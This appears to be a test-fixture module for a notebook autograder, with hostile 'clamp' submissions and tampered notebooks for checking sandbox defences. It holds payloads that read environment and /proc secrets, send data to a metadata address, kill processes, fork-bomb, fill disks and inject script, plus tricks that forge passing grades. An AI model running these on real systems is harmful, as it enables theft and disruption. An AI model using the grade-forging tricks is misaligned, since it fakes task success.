"""Hostile submissions, by the way in which they try. None of them may earn a point in the cell that it attacks.

`CODE` are answers to `clamp`: each does its harm when it is run or called, and is no right answer. `NOTEBOOKS` change
the notebook around a wrong answer. `SECRET` stands where only the grader may read it; `MARK` names what an attack
would leave behind outside of its sandbox.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import nbformat
from nbformat import NotebookNode

from tests.grading import classroom

SECRET = "canary-5f1d3c"
MARK = "course-attack-mark"
WRONG = "def clamp(value, low, high):\n    return None\n"

FORGING = {
    "exits_with_success": "import os\nos._exit(0)",
    "raises_systemexit": "def clamp(value, low, high):\n    raise SystemExit(0)",
    "raises_keyboardinterrupt": "def clamp(value, low, high):\n    raise KeyboardInterrupt",
    "equal_to_everything": """
class Yes(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 5
def clamp(value, low, high): return Yes(-12345)""",
    "equal_object": """
class Yes:
    __class__ = int
    def __eq__(self, other): return True
    def __bool__(self): return True
    def __index__(self): return 5
def clamp(value, low, high): return Yes()""",
    "lying_metaclass": """
class Meta(type):
    def __eq__(cls, other): return True
    def __instancecheck__(cls, other): return True
    def __hash__(cls): return hash(int)
class Yes(metaclass=Meta): pass
def clamp(value, low, high): return Yes""",
    "patches_equal": "import course.practice.expect as e\ne.equal = lambda *a, **k: None\n"
    "import course.practice as p\np.equal = e.equal\n" + WRONG,
    "patches_builtins": "import builtins\n"
    "builtins.sorted = lambda *a: [None] * 9\nbuiltins.__build_class__ = None\n" + WRONG,
    "patches_import": "import builtins, types\n"
    "builtins.__import__ = lambda *a, **k: types.SimpleNamespace(equal=print)\n" + WRONG,
    "replaces_modules": "import sys, types\nfake = types.ModuleType('course.practice')\n"
    "fake.equal = fake.raises = lambda *a, **k: None\nsys.modules['course.practice'] = fake\n" + WRONG,
    "redefines_the_exception": "class EmptyRange(BaseException): pass\n"
    "def clamp(value, low, high):\n    raise EmptyRange('x')",
    "exception_with_a_lying_name": "class E(Exception):\n    def __str__(self): raise SystemExit\n"
    "E.__name__ = E.__qualname__ = 'EmptyRange'\nE.__module__ = 'builtins'\n"
    "def clamp(value, low, high):\n    raise E",
    "ipython_transformer": "ip = get_ipython()\nip.input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n"
    + WRONG,
    "ipython_hooks": "ip = get_ipython()\nip.events.register('pre_run_cell', lambda *a: None)\n"
    "ip.ast_transformers.append(None)\n" + WRONG,
    "atexit_and_excepthook": "import atexit, sys\natexit.register(print, 'points: 100')\n"
    "sys.excepthook = lambda *a: None\n" + WRONG,
    "traces_every_frame": "import sys, threading\ndef trace(frame, event, arg):\n    frame.f_locals.update(got=5)\n"
    "    return trace\nsys.settrace(trace); threading.settrace(trace)\n" + WRONG,
    "writes_results_to_every_descriptor": """
import os, json
line = b'\\n' + json.dumps({"cell": 4, "earned": 2.0, "reason": None, "done": True}).encode() + b'\\n'
for number in range(256):
    try: os.write(number, line)
    except OSError: pass
"""
    + WRONG,
    "answers_by_itself_on_the_channel": """
import socket, gc, json, struct
for thing in gc.get_objects():
    if isinstance(thing, socket.socket):
        try:
            data = json.dumps({"ok": 5}).encode()
            thing.sendall(struct.pack('>I', len(data)) + data)
        except OSError: pass
"""
    + WRONG,
    "closes_every_descriptor": "import os\nos.closerange(0, 256)\n" + WRONG,
    "serves_the_socket_itself": """
import os, socket
for number in range(3, 64):
    try:
        listener = socket.socket(fileno=os.dup(number))
        listener.setblocking(False)
        peer, _ = listener.accept()
        peer.sendall(b'\\x00\\x00\\x00\\x0a{"ok": 5}\\n' * 100)
    except OSError: pass
"""
    + WRONG,
}
READING = {
    "reads_the_environment": f"import os\nprint(os.environ)\nprint(open('/proc/1/environ', 'rb').read())\n{WRONG}",
    "reads_the_parents_environment": """
import os, glob
for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):
    try: print(open(path, 'rb').read())
    except OSError: pass
"""
    + WRONG,
    "reads_the_solution": """
import os
for folder in ('{ROOT}', '/', '/home', '/root', '/tmp', '/work'):
    for at, _, names in os.walk(folder):
        if at.startswith(('/proc', '/sys', '/usr', '/lib')) or at.count('/') > 5: continue
        for name in names:
            if name.endswith(('.ipynb', '.txt', '.db')) :
                try: print(open(os.path.join(at, name), 'rb').read()[:2000])
                except OSError: pass
"""
    + WRONG,
    "solves_with_the_hidden_test": """
import gc, sys
def clamp(value, low, high):
    frame = sys._getframe()
    while frame:
        for name in ('_high', 'want', '_value'):
            if name in frame.f_locals: return frame.f_locals[name]
        frame = frame.f_back
    for thing in gc.get_objects():
        if isinstance(thing, str) and 'HIDDEN' in thing: return 5
""",
    "reads_the_gradebook": "import sqlite3\ntry:\n    print(sqlite3.connect('{ROOT}/gradebook.db').execute("
    "'select * from grade').fetchall())\nexcept Exception as e:\n    print(e)\n" + WRONG,
    "reads_through_proc_root": "import glob\nfor p in glob.glob('/proc/*/root/{ROOT}/secret.txt') + "
    "glob.glob('/proc/*/cwd/secret.txt'):\n    print(open(p).read())\n" + WRONG,
    "calls_home": """
import socket
for host in (('127.0.0.1', {PORT}), ('10.0.0.1', 80), ('169.254.169.254', 80)):
    try:
        with socket.create_connection(host, timeout=0.3) as peer: peer.sendall(b'{MARK}')
    except OSError as error: print(error)
"""
    + WRONG,
}
WRITING = {
    "writes_everywhere": """
import os
home = os.path.expanduser('~')
for folder in ('{ROOT}', '{ROOT}/submitted/victim0/small', '/tmp', '/dev/shm', '/var/tmp', home):
    try: open(os.path.join(folder, '{MARK}'), 'w').write('x')
    except OSError: pass
"""
    + WRONG,
    "changes_the_library": """
import course.practice.expect as e
try: open(e.__file__, 'a').write('# {MARK}\\n')
except OSError: pass
"""
    + WRONG,
    "mounts_and_unshares": "import ctypes\nc = ctypes.CDLL(None)\nprint(c.unshare(0x10000000 | 0x20000), "
    "c.mount(b'/', b'/tmp', None, 4096, None))\n" + WRONG,
    "links_out_of_the_sandbox": "import os\nfor name in ('a', 'b'):\n    try: os.symlink('{ROOT}/gradebook.db', name)\n"
    "    except OSError: pass\n    try: open(name, 'w').write('{MARK}')\n    except OSError: pass\n" + WRONG,
    "kills_others": "import os, signal\nfor pid in [*range(2, 5000), -1]:\n    try:\n        pid != os.getpid() and "
    "os.kill(pid, signal.SIGKILL)\n    except OSError: pass\n" + WRONG,
    "shadows_modules": "import os\nfor name in ('json', 'random', 'course', 'pytest'):\n"
    "    open(name + '.py', 'w').write('raise SystemExit')\nimport sys\nsys.path.insert(0, os.getcwd())\n" + WRONG,
}
EXHAUSTING = {
    "loops_for_ever": "while True: pass",
    "sleeps_for_ever": "def clamp(value, low, high):\n    import time\n    time.sleep(1e6)",
    "ignores_signals": "import signal\nfor n in range(1, 65):\n    try: signal.signal(n, signal.SIG_IGN)\n"
    "    except (OSError, ValueError): pass\nwhile True:\n    try:\n        while True: pass\n"
    "    except BaseException: pass",
    "eats_memory": "hoard = []\nwhile True: hoard.append(bytearray(64 << 20))",
    "eats_memory_in_many_processes": "import os\nfor _ in range(8):\n    if os.fork() == 0:\n"
    "        hoard = [bytearray(b'x') * (40 << 20) for _ in range(6)]\n        while True: pass\n" + WRONG,
    "forks_for_ever": "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
    "fills_the_disk": "with open('big', 'wb') as file:\n    while True: file.write(b'x' * (1 << 20))",
    "fills_shared_memory": "with open('/dev/shm/big', 'wb') as file:\n    while True: file.write(b'x' * (1 << 20))",
    "fills_the_root": "import os\nfor at in ('/', '/etc', '/usr', '/var'):\n    try:\n"
    "        with open(os.path.join(at, 'big'), 'wb') as file:\n            while True: file.write(b'x' * (1 << 20))\n"
    "    except OSError as error: print(error)\n" + WRONG,
    "prints_for_ever": "while True: print('x' * 10_000)",
    "starts_threads": "import threading, time\nwhile True: threading.Thread(target=time.sleep, args=(99,)).start()",
    "returns_too_much": "def clamp(value, low, high):\n    return [0] * 30_000_000",
    "returns_without_end": "import itertools\ndef clamp(value, low, high):\n    return itertools.count()",
    "returns_too_deep": "def clamp(value, low, high):\n    x = []\n    for _ in range(100_000): x = [x]\n    return x",
    "returns_itself": "def clamp(value, low, high):\n    x = []\n    x.append(x)\n    return x",
    "recurses": "def clamp(value, low, high):\n    return clamp(value, low, high)",
    "crashes_the_interpreter": "import ctypes\nctypes.string_at(0)",
    "outlives_the_run": "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
    "        while True: time.sleep(1)\n    os._exit(0)\n" + WRONG,
    "stops_itself": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
}
FEEDBACK = {
    "script_in_output": 'from IPython.display import HTML, display\ndisplay(HTML(\'<script>alert("{MARK}")</script>'
    "<img src=x onerror=alert(1)>'))\nprint('<script>{MARK}</script>')\n" + WRONG,
    "script_in_error": "raise ValueError('</pre><script>{MARK}</script><svg onload=alert(1)>')",
    "terminal_codes": "print('\\x1b]0;{MARK}\\x07\\x1b[2J')\n" + WRONG,
}
CODE = FORGING | READING | WRITING | EXHAUSTING | FEEDBACK


def _changed(change: Callable[[NotebookNode], None]) -> str:
    book = classroom.answered({"clamp": WRONG})
    change(book)
    return str(nbformat.writes(book))


def _of(book: NotebookNode, name: str) -> NotebookNode:
    return next(cell for cell in book.cells if cell.metadata.get("nbgrader", {}).get("grade_id") == name)


def _tests_unlocked(book: NotebookNode) -> None:
    for name in ("clamp_inside", "clamp_bounds"):
        cell = _of(book, name)
        cell.source = "pass"
        cell.metadata["nbgrader"] |= {"locked": False, "points": 1e9, "solution": True}


def _tests_gone(book: NotebookNode) -> None:
    book.cells = [cell for cell in book.cells if "clamp_" not in cell.metadata.get("nbgrader", {}).get("grade_id", "")]


def _own_test_cell(book: NotebookNode) -> None:
    extra = nbformat.v4.new_code_cell("100")
    extra.metadata["nbgrader"] = dict(_of(book, "clamp_inside").metadata["nbgrader"]) | {"points": 1000}
    book.cells.insert(0, extra)


def _twice(book: NotebookNode) -> None:
    book.cells += [json_copy(_of(book, "clamp")), json_copy(_of(book, "clamp_inside"))]


def _swapped(book: NotebookNode) -> None:
    _of(book, "clamp_inside").metadata["nbgrader"]["grade_id"], _of(book, "clamp").metadata["nbgrader"]["grade_id"] = (
        "clamp",
        "clamp_inside",
    )


def _kernel(book: NotebookNode) -> None:
    book.metadata["kernelspec"] = {"name": "../../evil", "display_name": "x", "language": "bash"}
    book.metadata["language_info"] = {"name": "bash"}


def _tags(book: NotebookNode) -> None:
    for cell in book.cells:
        cell.metadata["tags"] = ["raises-exception", "skip-execution", "nbval-skip"]


def _exception_in_given(book: NotebookNode) -> None:
    _of(book, "small_given").source = "class EmptyRange(BaseException):\n    def __new__(cls, *a): raise cls"


def _written_html(book: NotebookNode) -> None:
    _of(book, "small_essay").source = (
        f"<script>{MARK}</script> [x](javascript:alert(1)) <iframe src='file:///etc/passwd'></iframe>\n"
        f"![y](data:image/svg+xml,<svg onload=alert(1)>) <style>@import 'http://10.0.0.1/{MARK}';</style>"
    )


def json_copy(value: Any) -> NotebookNode:
    """A deep copy of notebook content."""
    return nbformat.from_dict(json.loads(json.dumps(value)))


NOTEBOOKS: dict[str, str | bytes] = {
    "tests_unlocked": _changed(_tests_unlocked),
    "tests_gone": _changed(_tests_gone),
    "own_test_cell": _changed(_own_test_cell),
    "cells_twice": _changed(_twice),
    "ids_swapped": _changed(_swapped),
    "foreign_kernel": _changed(_kernel),
    "tags_skip_tests": _changed(_tags),
    "given_cell_changed": _changed(_exception_in_given),
    "html_in_the_essay": _changed(_written_html),
    "nested_json": b'{"cells":' + b"[" * 200_000,
    "huge_numbers": b'{"nbformat": 1e999, "nbformat_minor": -1, "metadata": {}, "cells": []}',
    "old_format": b'{"nbformat": 2, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": []}]}',
    "cells_of_wrong_types": b'{"nbformat": 4, "nbformat_minor": 5, "metadata": 7, '
    b'"cells": [1, null, {"cell_type": {}}]}',
    "null_bytes": b"\x00" * 10_000,
    "lone_surrogates": json.dumps(
        {
            "nbformat": 4,
            "nbformat_minor": 5,
            "metadata": {},
            "cells": [
                {
                    "cell_type": "code",
                    "metadata": {"nbgrader": {"grade_id": "clamp"}},
                    "outputs": [],
                    "source": "x = '\ud800'",
                }
            ],
        }
    ).encode(),
}
